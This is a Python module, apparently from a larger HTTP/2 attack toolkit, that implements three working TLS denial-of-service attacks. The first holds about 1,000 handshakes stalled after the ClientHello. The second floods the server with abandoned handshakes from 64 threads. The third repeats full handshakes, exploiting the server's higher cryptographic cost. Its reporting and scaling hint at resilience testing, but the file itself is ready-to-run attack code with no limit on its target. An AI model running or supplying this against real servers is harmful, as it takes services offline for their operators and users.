"""Attacks on a server's TLS, by clients that have nothing to show: a handshake costs the server more than them."""

import contextlib
import socket
import ssl
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor

from http2_attacks import Attacker, Report
from http2_connection import NOT_ACCEPTED, WAIT_SECONDS, Connection, Target


def client_hello(target: Target) -> bytes:
    """What begins a handshake. It may be sent again and again: then the server alone computes."""
    sent = ssl.MemoryBIO()
    handshake = target.tls.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=target.server_name)
    with contextlib.suppress(ssl.SSLWantReadError):
        handshake.do_handshake()
    return sent.read()


def connect(target: Target) -> socket.socket:
    return socket.create_connection((target.host, target.port), WAIT_SECONDS)


def end_of(connection: socket.socket) -> str:
    """Reads on until the server closes it."""
    try:
        while connection.recv(1 << 16):
            pass
        return "closed"
    except OSError as error:
        return f"closed: {error.strerror or error}"


def stalled_handshakes(attacker: Attacker) -> Report:
    """Handshakes that are begun at one moment and go no further, until the server has waited enough."""
    target, count = attacker.target, max(1, round(1000 * attacker.scale))
    hello = client_hello(target)
    report = Report("stalled-handshakes", "handshakes", count, count * len(hello), count, begun=count)
    begun = time.monotonic()
    with contextlib.ExitStack() as held:
        connections = [held.enter_context(connect(target)) for _ in range(count)]
        for connection in connections:
            connection.sendall(hello)
        report.ends.update(map(end_of, connections))
    report.seconds = time.monotonic() - begun
    return report


def abandoned_handshakes(attacker: Attacker) -> Report:
    """Handshakes that are left once the server has done its part, of 64 clients."""
    target, count = attacker.target, max(1, round(4000 * attacker.scale))
    hello = client_hello(target)

    def abandon(_) -> str:
        with connect(target) as connection:
            connection.sendall(hello)
            return "answered" if connection.recv(1) else f"{NOT_ACCEPTED}: closed"

    report = Report("abandoned-handshakes", "handshakes", count, count * len(hello), count)
    begun = time.monotonic()
    with ThreadPoolExecutor(64) as pool:
        report.ends.update(pool.map(abandon, range(count)))
    report.begun = report.ends["answered"]
    report.seconds = time.monotonic() - begun
    return report


def whole_handshakes(attacker: Attacker) -> Report:
    """Connections that come to an end as soon as they are there, of 4 clients."""
    report, count = Report("whole-handshakes", "handshakes"), max(1, round(2000 * attacker.scale))

    def greet(_) -> None:
        with Connection(attacker.target) as connection:
            report.add(connection, 1)

    begun = time.monotonic()
    with ThreadPoolExecutor(4) as pool:
        list(pool.map(greet, range(count)))
    report.begun = count - sum(ended for end, ended in report.ends.items() if end.startswith(NOT_ACCEPTED))
    report.seconds = time.monotonic() - begun
    return report


TLS_ATTACKS: dict[str, Callable[[Attacker], Report]] = {
    "stalled-handshakes": stalled_handshakes,
    "abandoned-handshakes": abandoned_handshakes,
    "whole-handshakes": whole_handshakes,
}
